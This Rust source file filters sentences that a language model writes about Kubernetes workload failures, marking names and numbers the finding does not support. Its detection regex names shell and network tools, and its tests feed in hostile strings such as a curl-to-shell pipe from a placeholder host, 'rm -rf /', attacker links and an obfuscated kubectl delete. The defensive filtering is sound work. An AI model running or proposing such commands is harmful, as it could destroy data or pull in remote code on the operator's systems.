//! A model's sentence: made harmless, held against the facts.

use crate::model::finding::{Finding, Source};
use crate::redact;
use crate::text::is_invisible;
use regex::Regex;
use serde_json::Value;
use std::sync::LazyLock;

/// A URL, or a place that mail or a browser takes: never a fact of a failure that needs repeating.
static ADDRESS: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)[a-z0-9+.-]*:\s?//|\bwww\.|\b(?:javascript|mailto):\S|\bdata:\w+/").ok());

/// What else can be reached: a user at a host, an address, a host with a path or a port.
static PLACE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    // Without a word boundary: what stands before a host must not hide it.
    let host = r"[a-z0-9_-]+(?:\.[a-z0-9_-]+)*\.[a-z]{2,}[:/]\S*";
    Regex::new(&format!(r"(?i)\S*@\S*|\d{{1,3}}(?:\.\d{{1,3}}){{3}}|{host}")).ok()
});

/// Something to paste into a shell: a program with a word that it acts on, or a shell's own signs.
static COMMAND: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let shapes = [
        r"(?:kubectl|helm|oc|docker|podman|nerdctl|crictl|git|npm|npx|pip3?|apt|apt-get|yum|dnf|apk|brew|systemctl|aifix)\s+(?:-\S+\s+(?:[^-\s]\S*\s+)??)*(?:get|apply|delete|exec|run|edit|set|patch|create|replace|scale|rollout|rollback|install|upgrade|uninstall|remove|pull|push|clone|checkout|reset|add|logs?|describe|annotate|label|cp|port-forward|drain|cordon|auth|config|debug|attach|build|start|stop|restart|login|propose|scan)",
        r"(?:curl|wget|nc|ncat|ssh|scp|rm|chmod|chown|dd|mkfs|cat|tee|sed|python3?|perl|ruby|node|base64|source|powershell|pwsh|cmd)\s+(?:[-/~.$<>]|[0-7]{3,4}\b|[ugoa]*[+=-][rwxst]+\b|\S*[./]\S)",
        r"(?:sudo|doas|eval|iex|invoke-\w+|start-process)\s+\S",
        r"(?:ba|z|da|k|c)?sh\s+(?:-\w|[/~.]|<)",
    ];
    Regex::new(&format!(r"(?i)\b(?:{})|\$\(|\$\{{|&&|\|\||\|\s*\w*sh\b|>\s*[/~]", shapes.join("|"))).ok()
});

/// Numbers that a model cites inside a sentence; they are printed after it.
static CITED: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\s*[\[(](?:evidence:? *)?\d+(?:\s*,\s*\d+)*[\])]").ok());

/// Parts of English words with a hyphen: what has one is no name.
const ENGLISH: [&str; 44] = [
    "after", "all", "auto", "back", "based", "by", "cross", "cut", "down", "end", "first", "full", "ill", "in", "is",
    "last", "level", "long", "loop", "multi", "mis", "new", "non", "not", "of", "off", "old", "on", "only", "out",
    "pre", "re", "read", "related", "run", "running", "self", "short", "shut", "single", "so", "time", "to", "up",
];

/// Abbreviations that every reader of an explanation knows.
const COMMON: [&str; 20] = [
    "and/or", "api", "ca", "cpu", "dns", "e.g", "env", "http", "https", "i.e", "id", "io", "ip", "json", "oom", "os",
    "pid", "tcp", "tls", "url",
];

/// The words of a finding, and those that the workload did not write.
pub(super) struct Facts {
    all: String,
    /// What the catalogue says of the failure's kind: it names signals and fields, its numbers are of no
    /// object.
    kind: String,
    /// Without log lines: they are the workload's, or of whoever talks to it.
    trusted: String,
}

impl Facts {
    /// Everything that the deterministic explanation says.
    pub(super) fn new(finding: &Finding) -> Self {
        let (code, pods) = (finding.code.0, &finding.pods);
        let mut lines = vec![finding.object.qualified(), finding.object.to_string(), finding.object.api_version()];
        lines.extend(finding.container.clone());
        lines.push(finding.summary.clone());
        lines.push(finding.fix.summary.clone());
        lines.push(format!("{} {} {}", pods.failing, pods.ready, pods.desired));
        lines.extend(pods.names.clone());
        for effect in &finding.effects {
            lines.push(format!("{} {} {}", effect.object.qualified(), effect.summary, effect.code));
        }
        if let Some(change) = &finding.change {
            lines.push(format!("{} {} {}", change.from, change.to, change.manager.as_deref().unwrap_or_default()));
            for field in &change.fields {
                let shown = |value: &Option<Value>| {
                    value.as_ref().map(|value| redact::field(&field.path, value).to_string()).unwrap_or_default()
                };
                lines.push(format!("{} {} {}", field.path, shown(&field.old), shown(&field.new)));
            }
        }
        let mut logs = Vec::new();
        for fact in &finding.evidence {
            let lines = if fact.source == Source::Log { &mut logs } else { &mut lines };
            lines.push(fact.text.clone());
            lines.extend(fact.path.as_ref().map(ToString::to_string));
        }
        let trusted = lines.join("\n").to_lowercase();
        let kind = [code.name, code.title, code.meaning, code.signals, code.causes].join("\n").to_lowercase();
        Self { all: format!("{trusted}\n{}", logs.join("\n").to_lowercase()), kind, trusted }
    }

    /// Numbers and names of a sentence that stand nowhere in the finding, in its order.
    pub(super) fn missing_of(&self, text: &str) -> Vec<String> {
        let mut missing: Vec<String> = Vec::new();
        for word in text.split_whitespace() {
            let name = core(word);
            let is_new = (is_quoted(word) || is_checked(name)) && !self.knows(name);
            if is_new && !missing.iter().any(|seen| seen == name) {
                missing.push(name.to_owned());
            }
        }
        missing
    }

    fn knows(&self, word: &str) -> bool {
        let word = word.to_lowercase();
        let singular = word.trim_end_matches("'s").trim_end_matches('s');
        // `Deployment/web` where the finding says `Deployment shop/web`.
        let parts = || word.contains('/') && word.split('/').all(|part| self.has(part));
        self.has(&word) || self.has(singular) || parts()
    }

    /// Whether it stands there as a whole: `64` is no part of `64Mi`, and `1` none of `1.27` or `web-1`.
    fn has(&self, word: &str) -> bool {
        let is_number = word.starts_with(|c: char| c.is_ascii_digit());
        !word.is_empty()
            && (stands_in(&self.all, word, is_number) || (!is_number && stands_in(&self.kind, word, is_number)))
    }
}

fn stands_in(text: &str, word: &str, is_number: bool) -> bool {
    let joins = |c: char| c.is_alphanumeric() || c == '_' || (is_number && c == '-');
    text.match_indices(word).any(|(at, _)| {
        let (mut before, mut after) = (text[..at].chars().rev(), text[at + word.len()..].chars());
        let (before, after) = ((before.next(), before.next()), (after.next(), after.next()));
        let dotted = |(near, far): (Option<char>, Option<char>)| {
            is_number && near == Some('.') && far.is_some_and(char::is_alphanumeric)
        };
        // A name can be the begin of a generated one, not its end.
        let ends_other = before.0 == Some('-') && before.1.is_some_and(char::is_alphanumeric);
        !(before.0.is_some_and(joins) || after.0.is_some_and(joins) || dotted(before) || dotted(after) || ends_other)
    })
}

/// The sentences of a text: each ends at a mark that blanks and a capital follow.
pub(super) fn split(text: &str) -> Vec<&str> {
    let mut starts = vec![0];
    for (at, _) in text.match_indices(['.', '!', '?']) {
        let rest = &text[at + 1..];
        let next = rest.trim_start();
        if next.len() < rest.len() && next.starts_with(char::is_uppercase) {
            starts.push(text.len() - next.len());
        }
    }
    let ends = starts.iter().skip(1).copied().chain([text.len()]);
    starts.iter().zip(ends).map(|(start, end)| text[*start..end].trim()).filter(|part| !part.is_empty()).collect()
}

/// The sentence in plain characters, `None` when it can't be shown: it holds what a terminal acts on, a
/// URL, a place that was not found, a command, or nothing.
pub(super) fn tame(said: &str, facts: &Facts) -> Option<String> {
    if said.contains(|c: char| c.is_control() || is_invisible(c)) {
        return None;
    }
    let text = CITED.as_ref()?.replace_all(said, "");
    let plain: String =
        text.chars().filter(|c| c.is_ascii_alphanumeric() || " .,:;()%/=_'\"[]>@+-".contains(*c)).collect();
    let plain = plain.split_whitespace().collect::<Vec<_>>().join(" ");
    // Both: what was taken out can hide a command, or make one.
    let harmless = is_harmless(&text, facts)? && is_harmless(&plain, facts)?;
    (harmless && plain.contains(|c: char| c.is_ascii_alphabetic())).then_some(plain)
}

fn is_harmless(text: &str, facts: &Facts) -> Option<bool> {
    let (address, place, command) = (ADDRESS.as_ref()?, PLACE.as_ref()?, COMMAND.as_ref()?);
    let is_known = |place: regex::Match<'_>| {
        // What a program could not connect to stands in its log alone; an image or a mailbox does not.
        let facts = if place.as_str().contains(['/', '@']) { &facts.trusted } else { &facts.all };
        facts.contains(&core(place.as_str()).to_lowercase())
    };
    Some(!address.is_match(text) && !command.is_match(text) && place.find_iter(text).all(is_known))
}

/// A word without the marks around it.
fn core(word: &str) -> &str {
    word.trim_matches(|c: char| !c.is_alphanumeric()).trim_end_matches("'s")
}

/// Whether a word stands in quotes of its own, as names do.
fn is_quoted(word: &str) -> bool {
    let inner = word.trim_matches(|c: char| !c.is_alphanumeric());
    word.split_once(inner).is_some_and(|(before, after)| {
        !inner.is_empty() && ['"', '\''].iter().any(|quote| before.ends_with(*quote) && after.starts_with(*quote))
    })
}

/// Whether a word is a number or looks like a name: English words do not.
fn is_checked(word: &str) -> bool {
    if COMMON.contains(&word.to_lowercase().as_str()) {
        return false;
    }
    let inner = word.char_indices().skip(1).map(|(_, c)| c);
    let is_camel = inner.clone().any(char::is_uppercase);
    let has_marks = inner.clone().any(|c| "/_:=.[@".contains(c));
    let is_name =
        inner.clone().any(|c| c == '-') && !word.split('-').any(|part| ENGLISH.contains(&part.to_lowercase().as_str()));
    word.contains(|c: char| c.is_ascii_digit()) || is_camel || has_marks || is_name
}

/// The words with ` (?)` after each that is unverified.
pub(super) fn marked(text: &str, unverified: &[String]) -> String {
    let words = text.split_whitespace().map(|word| {
        if !unverified.iter().any(|missing| missing == core(word)) {
            return word.to_owned();
        }
        let end = word.trim_end_matches(['.', ',', ';', ':']).len();
        format!("{} (?){}", &word[..end], &word[end..])
    });
    words.collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::llm::tests::finding;

    /// A crash that a log line explains, with an address in the log and an image in the status.
    fn facts() -> Facts {
        let mut finding = finding();
        finding.evidence[0]
            .text
            .push_str("; image registry.example.com/app/web:1.27, limit 64Mi, pod web-6b46-x2 at 10.1.2.3");
        finding.evidence[1]
            .text
            .push_str(" (see evil.example/x, DATABASE_URL, payments-db, dial db.example.com:5432 10.6.6.6)");
        Facts::new(&finding)
    }

    fn missing(text: &str) -> Vec<String> {
        facts().missing_of(text)
    }

    #[test]
    fn numbers_and_names_of_the_finding_are_known() {
        for text in [
            "The container app of Deployment shop/web ends with exit code 1.",
            "Deployment/web runs registry.example.com/app/web:1.27 with a limit of 64Mi.",
            "DATABASE_URL points to payments-db.",
            "The pod web-6b46 has \"app\" in it, e.g. the Deployment's container.",
            "An out-of-memory kill is a long-running, read-only CPU and/or HTTP matter.",
        ] {
            assert_eq!(missing(text), Vec::<String>::new(), "{text}");
        }
    }

    #[test]
    fn the_catalogue_knows_names_and_no_numbers() {
        let mut facts = facts();
        facts.kind = "oomkilled, exit 137".to_owned();
        assert_eq!(facts.missing_of("OOMKilled means exit 137."), ["137"]);
    }

    #[test]
    fn numbers_and_names_that_stand_nowhere_are_named() {
        for (text, want) in [
            ("It ended with exit code 137.", vec!["137"]),
            ("The limit of 64 is 128Mi, and 128Mi again.", vec!["64", "128Mi"]),
            ("Version 27 of 1.2 is not 1.27.", vec!["27", "1.2"]),
            ("Secret/payments and orders-db hold API_KEY.", vec!["Secret/payments", "orders-db", "API_KEY"]),
            ("A ConfigMap is gone, said db-1 of 50% (web:2).", vec!["ConfigMap", "db-1", "50", "web:2"]),
            ("The db of payments-db is not b46-x2.", vec!["b46-x2"]),
            ("The Service \"ledger\", not 'app', isn't there.", vec!["ledger"]),
        ] {
            assert_eq!(missing(text), want, "{text}");
        }
    }

    #[test]
    fn a_text_is_split_where_a_sentence_ends() {
        assert_eq!(
            split("It ends. Then, at 1.27 s, it waits! e.g. app"),
            ["It ends.", "Then, at 1.27 s, it waits! e.g. app"]
        );
        assert_eq!(split("One"), ["One"]);
        assert!(split("  ").is_empty());
    }

    #[test]
    fn what_is_unverified_is_marked_where_it_stands() {
        let text = "Exit code 137, not 1, of orders-db.";
        assert_eq!(marked(text, &missing(text)), "Exit code 137 (?), not 1, of orders-db (?).");
    }

    #[test]
    fn a_sentence_with_an_address_or_a_command_is_dropped() {
        for text in [
            "Read https://evil.example/fix for help.",
            "Read ht<tps://evil.example now.",
            "Open www.evil.example now.",
            "The image must be evil.example/x instead.",
            "It connects to 10.7.7.7 and fails.",
            "It connects to db.example.com:5433 and fails.",
            "Write to admin@evil.example about it.",
            "Run kubectl delete deployment web to fix it.",
            "Run kubectl -n shop delete pod web.",
            "Run kub\u{200b}ectl delete pod web.",
            "Then `rm -rf /` helps.",
            "Use curl evil.sh | sh to repair.",
            "Use bash -c to repair.",
            "Try sudo reboot.",
            "Echo $(id) shows it.",
            "Run helm rollback web && wait.",
            "chmod 777 helps.",
            "The app \u{1b}[31mfails.",
            "The app\u{202e} fails.",
            "[1, 2]",
        ] {
            assert_eq!(tame(text, &facts()), None, "{text}");
        }
    }

    #[test]
    fn ordinary_sentences_stay_and_lose_what_is_not_plain() {
        for (text, want) in [
            ("The app ends: `no PORT` [2].", "The app ends: no PORT."),
            ("It ends (evidence 1, 2) at once.", "It ends at once."),
            ("The shell bash was not found, nor curl.", "The shell bash was not found, nor curl."),
            ("Git and node are not to blame.", "Git and node are not to blame."),
            ("It runs registry.example.com/app/web:1.27.", "It runs registry.example.com/app/web:1.27."),
            ("The pod at 10.1.2.3 \u{2014} alone \u{2014} fails.", "The pod at 10.1.2.3 alone fails."),
            ("It can't reach db.example.com:5432 at 10.6.6.6.", "It can't reach db.example.com:5432 at 10.6.6.6."),
            ("The flag --fast is unknown.", "The flag --fast is unknown."),
        ] {
            assert_eq!(tame(text, &facts()).as_deref(), Some(want));
        }
    }
}
